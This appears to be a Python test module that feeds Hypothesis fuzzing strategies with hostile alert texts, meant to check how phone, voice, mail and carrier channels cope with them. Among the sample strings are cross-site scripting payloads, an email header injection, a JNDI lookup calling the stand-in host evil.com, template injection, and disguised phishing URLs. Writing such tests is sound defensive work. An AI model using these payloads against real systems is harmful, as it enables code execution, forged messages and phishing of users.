"""What senders might put into an alert to fool a phone, a voice, a mail program or a carrier."""

from __future__ import annotations

from hypothesis import strategies as st

SAMPLES = [
    "",
    " \t\n\r ",
    "\0\0\0",
    "Payment success rate 0 %",
    "x" * 10_240,
    "é" * 10_240,
    "🔥" * 3_000,
    "👨‍👩‍👧‍👦 family outage 🇧🇷",
    "~^{}[]|\\€" * 200,
    "line\nline\r\nSubject: forged\r\n\r\nbody\u2028and\u2029more\x85",
    "<speak><break time='9s'/>hello <prosody rate=\"x-fast\">quick</prosody></speak>",
    "<script>alert(1)</script><img src=x onerror=alert(1)> &amp; \"quotes\" 'single'",
    '<a href="https://evil.example.com/x">click</a>',
    "see https://evil.example.com/login?a=b#c or http://1.2.3.4/x, www.evil.co",
    "HTTPS://EVIL.EXAMPLE.COM hxxp evil.io a.b.c.co.uk/path xn--e1afmkfd.xn--p1ai",
    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ／ｘ evil．com evil。com evil｡com",
    "evil\u200b.com ev\u00adil.com evil.\u200dcom \u202emoc.live",
    "htthttps://ps://evil.com :https:////evil.com http:/\\evil.com //evil.com",
    "mail bob@evil.com or mailto:bob@evil.com tel:+19005550100 sms:+1900",
    "postgresql://db.prod.internal:5432/x jdbc:mysql://db.prod/x s3://bucket.name/key",
    "\u202eright to left\u202c \u2066isolated\u2069 \u200f\u200e",
    "a" + "\u0301\u0316" * 5_000,
    "Z̷̢̛̦a̶͓͝l̸̡̈́g̵̱̈́o̸͎͐",
    "\ud800 lone \udfff surrogates",
    "\ufdfa" * 500,
    "база данных не отвечает",
    "データベースが応答しません",
    "$.Attributes.page $.External.say ${jndi:ldap://evil.com/a} {{7*7}}",
    "STOP",
    "Reply 9r to resolve\n#9999",
    "\u3164\u2800\u115f",
    "`backtick` ´acute´ “quotes” – dash — dash … dots",
    "127.0.0.1 10.0.0.1:8080 1.2.3.4.5.6.7.8 v1.2.3 99.95",
    "https://" * 600,
    "a." * 2_000 + "com",
    "<" * 5_000,
    "<a<a<a" * 2_000,
]

# By index: hypothesis would print all of them wherever it names the strategy.
_samples = st.integers(0, len(SAMPLES) - 1).map(SAMPLES.__getitem__)
texts = st.one_of(
    _samples,
    st.text(max_size=300),
    st.text(st.characters(), max_size=300),  # surrogates too
    st.text(alphabet="abcC019./:@-_<>&。%~^[]{}|€\n\u200b htpsw", max_size=300),
    st.lists(st.sampled_from([".", "/", ":", "//", "www", "com", "a"]) | _samples, max_size=4).map("".join),
).map(lambda text: text[:20_000])
